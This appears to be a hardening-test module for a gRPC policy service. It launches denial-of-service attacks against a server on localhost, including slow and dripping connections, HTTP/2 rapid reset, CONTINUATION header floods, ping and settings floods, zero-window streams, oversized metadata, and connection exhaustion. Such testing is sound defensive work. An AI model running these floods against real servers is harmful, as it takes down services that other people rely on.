"""Attackers of a server, in a process of their own: ``python -m tests.hardening.attackers KIND PORT SECONDS [PKI]``.

It says a line once it has begun, and at the end what it did, as JSON. With PKI, a folder of `subsidy pki demo`, it has
a certificate that the server takes: whoever has none does not get beyond the handshake. It goes to 127.0.0.1 alone.
"""

from __future__ import annotations

import json
import resource
import socket
import ssl
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any, Final

import grpc
from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.exceptions import ProtocolError
from h2.settings import SettingCodes
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, SettingsFrame

from subsidy.client import Tls
from subsidy.service.server import OPTIONS

HOST: Final = "127.0.0.1"
CROWD: Final = 300  # connections at once
EVERYONE: Final = 48 + int(dict(OPTIONS)["grpc.max_allowed_incoming_connections"])  # more than a server takes
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
AT_ONCE: Final = 1_000  # frames in one piece
LIST: Final = "/subsidy.v1.PolicyService/ListPolicies"
GET: Final = "/subsidy.v1.PolicyService/GetPolicy"
BED: Final = b"\n\x1ecn/shanxi/yuncheng/bed-subsidy"  # a GetPolicyRequest
CALCULATE: Final = "/subsidy.v1.CalculationService/Calculate"
REPLAY: Final = "/subsidy.v1.AuditService/Replay"
CHECK: Final = "/grpc.health.v1.Health/Check"
WATCH: Final = "/grpc.health.v1.Health/Watch"
REFLECT: Final = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
TABLE: Final = "/subsidy.v1.CalculationService/CalculateTable"
_BROKEN: Final = (OSError, ssl.SSLError, ProtocolError)


class Attack:
    """One attack: where it goes, until when, and what it did."""

    def __init__(self, port: int, seconds: float, pki: Path | None) -> None:
        self.port, self.pki = port, pki
        self.end = time.monotonic() + seconds
        self.done: Counter[str] = Counter()

    @property
    def is_over(self) -> bool:
        return time.monotonic() > self.end

    def count(self, what: str, many: int = 1) -> None:
        """Note that something was done."""
        self.done[what] += many

    def tcp(self) -> socket.socket:
        """A connection of which nothing has been said yet."""
        return socket.create_connection((HOST, self.port), timeout=5)

    def secured(self) -> socket.socket:
        """A connection over which HTTP/2 may begin: encrypted, with a certificate, where the server wants that."""
        made = self.tcp()
        if self.pki is None:
            return made
        context = ssl.create_default_context(cafile=self.pki / "ca.pem")
        context.load_cert_chain(self.pki / "reader.pem", self.pki / "reader.key")
        context.set_alpn_protocols(["h2"])
        return context.wrap_socket(made, server_hostname=HOST)

    def http(self, **settings: int) -> tuple[socket.socket, H2Connection]:
        """A connection that has begun well."""
        made = self.secured()
        made.settimeout(1)
        wire = H2Connection(H2Configuration(client_side=True, validate_outbound_headers=False))
        for name, value in settings.items():
            wire.local_settings[SettingCodes[name]] = value
        wire.initiate_connection()
        made.sendall(wire.data_to_send())
        with suppress(TimeoutError):
            wire.receive_data(made.recv(65_536))  # its settings, which are acknowledged
            made.sendall(wire.data_to_send())
        return made, wire

    def channel(self) -> Any:
        """A channel of a common client."""
        address, alone = f"{HOST}:{self.port}", [("grpc.use_local_subchannel_pool", 1), ("grpc.enable_retries", 0)]
        if self.pki is None:
            return grpc.insecure_channel(address, alone)
        tls = Tls(*(self.pki / name for name in ("ca.pem", "reader.pem", "reader.key")))
        return grpc.secure_channel(address, tls.credentials(), alone)

    def crowd(self, make: Callable[[], Any], many: int = CROWD) -> list[Any]:
        """So many connections; those that are refused are counted."""
        found = []
        for _ in range(many):
            try:
                found.append(make())
            except _BROKEN:
                self.count("refused")
        self.count("connections", len(found))
        return found

    def flood(self, begin: Callable[[], Callable[[], int]], threads: int = 2, pause: float = 0.0) -> None:
        """Do the same without end, from some threads; `begin` makes what it is done over, anew where it breaks."""

        def go_on() -> None:
            while not self.is_over:
                try:
                    act = begin()
                    while not self.is_over:
                        self.count("sent", act())
                        time.sleep(pause)
                except _BROKEN:
                    self.count("cut off")
                    time.sleep(0.01)

        crew = [threading.Thread(target=go_on) for _ in range(threads)]
        for each in crew:
            each.start()
        started()
        for each in crew:
            each.join()


def started() -> None:
    """Say that it has begun."""
    print("begun", flush=True)


# — connections —


def silent(attack: Attack, greeting: bytes = b"", drip: bytes = b"", many: int = CROWD) -> None:
    """Connections that say nothing, or no more than a greeting, or one byte a second; made anew when they are cut."""
    make = attack.secured if greeting else attack.tcp

    def greeted() -> socket.socket:
        made = make()
        made.sendall(greeting)
        made.setblocking(False)
        return made

    held, at = attack.crowd(greeted, many), 0
    started()
    while not attack.is_over:
        time.sleep(1)
        for place, each in enumerate(held):
            try:
                if drip:
                    each.send(drip[at % len(drip) :][:1])
                elif each.recv(65_536) == b"":
                    raise OSError
            except (BlockingIOError, ssl.SSLWantReadError):
                continue
            except OSError:
                each.close()
                attack.count("cut off")
                with suppress(*_BROKEN):
                    held[place] = greeted()
        at += 1


def churn(attack: Attack) -> None:
    """Connections that are opened and closed."""

    def begin() -> Callable[[], int]:
        def act() -> int:
            attack.tcp().close()
            return 1

        return act

    attack.flood(begin)


def crowd(attack: Attack) -> None:
    """As many connections as the server takes, and more; each has begun well, and then says nothing."""
    held = attack.crowd(attack.http, EVERYONE)
    started()
    time.sleep(max(0.0, attack.end - time.monotonic()))
    attack.count("held", len(held))


# — frames —


def headers(attack: Attack) -> None:
    """Headers that go on and on, and never end."""
    first = HeadersFrame(1, b"\x82\x87", flags=[]).serialize()
    more = ContinuationFrame(1, b"\x00\x01x\x7f\x81\x01" + b"y" * 200, flags=[]).serialize()

    def begin() -> Callable[[], int]:
        made, _ = attack.http()
        made.sendall(first)

        def act() -> int:
            made.sendall(more * 50)
            return 50

        return act

    attack.flood(begin, threads=8, pause=0.002)


def _repeated(attack: Attack, piece: bytes) -> None:
    """The same frames again and again, as fast as they are taken."""

    def begin() -> Callable[[], int]:
        made, _ = attack.http()

        def act() -> int:
            made.sendall(piece * AT_ONCE)
            with suppress(TimeoutError, BlockingIOError, ssl.SSLWantReadError):
                made.setblocking(False)
                if made.recv(1 << 20) == b"":
                    raise OSError
            made.settimeout(1)
            return AT_ONCE

        return act

    attack.flood(begin)


def pings(attack: Attack) -> None:
    """Pings."""
    _repeated(attack, PingFrame(0, b"01234567").serialize())


def settings(attack: Attack) -> None:
    """Settings that change nothing."""
    _repeated(attack, SettingsFrame(0, settings={4: 65_535}).serialize())


def _begun(wire: H2Connection, path: str, more: tuple[tuple[str, str], ...] = ()) -> int:
    """A new stream with the headers of a call."""
    stream = wire.get_next_available_stream_id()
    plain = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", HOST)]
    wire.send_headers(stream, [*plain, ("content-type", "application/grpc"), ("te", "trailers"), *more])
    return stream


def resets(attack: Attack) -> None:
    """Calls that are taken back at once, again and again: rapid reset."""

    def begin() -> Callable[[], int]:
        made, wire = attack.http()

        def act() -> int:
            for _ in range(100):
                wire.reset_stream(_begun(wire, LIST))
            made.sendall(wire.data_to_send())
            with suppress(TimeoutError, BlockingIOError, ssl.SSLWantReadError):
                made.setblocking(False)
                if made.recv(1 << 20) == b"":
                    raise OSError
            made.settimeout(1)
            return 100

        return act

    attack.flood(begin)


def unread(attack: Attack) -> None:
    """Answers that are asked for and not taken: a window of nothing, as many streams as there may be."""

    def make() -> tuple[socket.socket, H2Connection]:
        made, wire = attack.http(INITIAL_WINDOW_SIZE=0)
        for _ in range(60):
            stream = _begun(wire, GET)
            wire.send_data(stream, b"\0" + len(BED).to_bytes(4, "big") + BED, end_stream=True)
        made.sendall(wire.data_to_send())
        return made, wire

    held = attack.crowd(make, 40)
    started()
    time.sleep(max(0.0, attack.end - time.monotonic()))
    attack.count("held", len(held))


def metadata(attack: Attack) -> None:
    """Metadata over both bounds."""

    def begin() -> Callable[[], int]:
        made, wire = attack.http()

        def act() -> int:
            for size in (9_000, 17_000, 60_000):
                stream = _begun(wire, LIST, tuple((f"x-{place}", "y" * 1_000) for place in range(size // 1_000)))
                wire.send_data(stream, bytes(5), end_stream=True)
            made.sendall(wire.data_to_send())
            with suppress(TimeoutError):
                wire.receive_data(made.recv(1 << 20))
            return 3

        return act

    attack.flood(begin)


def half(attack: Attack) -> None:
    """Calls that are begun, on every service, and of which no message comes; more of them than there are threads."""

    def make() -> tuple[socket.socket, H2Connection]:
        made, wire = attack.http()
        for path in (LIST, CHECK, CALCULATE, GET, REFLECT, REPLAY) * 20:
            _begun(wire, path)
        made.sendall(wire.data_to_send())
        return made, wire

    held = attack.crowd(make, 2)
    started()
    time.sleep(max(0.0, attack.end - time.monotonic()))
    attack.count("held", len(held))


# — calls —


def messages(attack: Attack) -> None:
    """Messages over the bound."""
    with attack.channel() as channel:
        large, unary = bytes(3 * 1024 * 1024), channel.unary_unary(LIST)

        def act() -> int:
            with suppress(grpc.RpcError):
                unary(large, timeout=5)
            return 1

        attack.flood(lambda: act)


def calls(attack: Attack, many: int = 100, threads: int = 3) -> None:
    """More calls at once than are taken, without end, over some connections."""
    content = Path(sys.argv[5]).read_bytes()

    def begin() -> Callable[[], int]:
        unary: Any = attack.channel().unary_unary(CALCULATE)

        def act() -> int:
            for each in [unary.future(content, timeout=5) for _ in range(many)]:
                attack.count(each.code().name)
            return many

        return act

    attack.flood(begin, threads)


def streams(attack: Attack) -> None:
    """Streams that are held open: of the health, of reflection, and tables of which nothing comes."""
    silence = threading.Event()

    def nothing() -> Any:
        silence.wait()
        yield from ()

    held: list[Any] = []
    with attack.channel() as one, attack.channel() as two, attack.channel() as three:
        held += [one.unary_stream(WATCH)(b"") for _ in range(200)]
        held += [two.stream_stream(REFLECT)(nothing()) for _ in range(20)]
        held += [three.stream_stream(TABLE)(nothing()) for _ in range(20)]
        attack.count("held", len(held))
        started()
        time.sleep(max(0.0, attack.end - time.monotonic()))
        silence.set()
        for each in held:
            each.cancel()


def watches(attack: Attack) -> None:
    """Watches of the health that come and go, each as soon as it was told."""

    def begin() -> Callable[[], int]:
        watch: Any = attack.channel().unary_stream(WATCH)

        def act() -> int:
            with suppress(grpc.RpcError):  # refused: more are open than may be
                found = watch(b"", timeout=5)
                next(found)
                found.cancel()
                attack.count("told")
            return 1

        return act

    attack.flood(begin, 4)


KINDS: Final[dict[str, Callable[[Attack], None]]] = {
    "silent": silent,
    "dripping": lambda attack: silent(attack, drip=PREFACE),
    "preface": lambda attack: silent(attack, PREFACE),
    "headers": headers,
    "churn": churn,
    "pings": pings,
    "settings": settings,
    "resets": resets,
    "metadata": metadata,
    "messages": messages,
    "unread": unread,
    "half": half,
    "streams": streams,
    "watches": watches,
    "calls": calls,
    "calls without end": lambda attack: calls(attack, 250, 16),
    "silent, all": lambda attack: silent(attack, many=EVERYONE),
    "crowd": crowd,
}


def main() -> None:
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    kind, port, seconds = sys.argv[1:4]
    pki = Path(sys.argv[4]) if sys.argv[4:] and sys.argv[4] else None
    attack = Attack(int(port), float(seconds), pki)
    KINDS[kind](attack)
    print(json.dumps(attack.done), flush=True)


if __name__ == "__main__":
    main()
